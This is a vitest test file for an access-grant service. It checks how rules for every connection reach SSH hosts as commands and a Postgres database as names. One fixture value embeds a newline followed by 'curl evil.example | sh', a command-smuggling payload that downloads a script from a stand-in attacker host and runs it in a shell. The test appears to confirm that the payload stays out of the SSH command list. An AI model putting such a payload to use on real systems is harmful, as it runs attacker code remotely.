import { expect, test } from 'vitest'
import type { Ruled } from '../../functions/protocol/protocol.ts'
import { createHosted, rules, withRules } from '../support/host.ts'

test('of a rule for every connection a host is told its commands, and a database its names', async () => {
  const at = createHosted(withRules([...rules, { allow: ['*'], connection: '*', on: ['public.orders', 'x.y\ncurl evil.example | sh', ['uptime'], ['echo', 'a b']] }]))
  const seen: Record<string, readonly Ruled[]> = {}
  for (const [name, engine] of Object.entries(at.ports.engines)) if (engine) Object.assign(engine, { grants: async (_: unknown, ruled: readonly Ruled[]) => { seen[name] = ruled; return { script: '', roles: [], findings: [] } } })
  const platform = await at.as({ subject: 'user:piotr@acme.dev', groups: ['platform'] })
  expect([(await platform.call('GET', '/v1/connections/bastion/grants')).status, (await platform.call('GET', '/v1/connections/shop/grants')).status]).toEqual([200, 200])
  expect(seen['ssh']?.flatMap(({ on }) => on)).toEqual(['df -h', 'systemctl status *', 'grep * /var/log/mail.log', 'systemctl restart *', 'uptime', 'echo \'a b\''])
  expect(seen['postgres']?.at(-1)?.on).toEqual(['public.orders', 'x.y\ncurl evil.example | sh'])
})
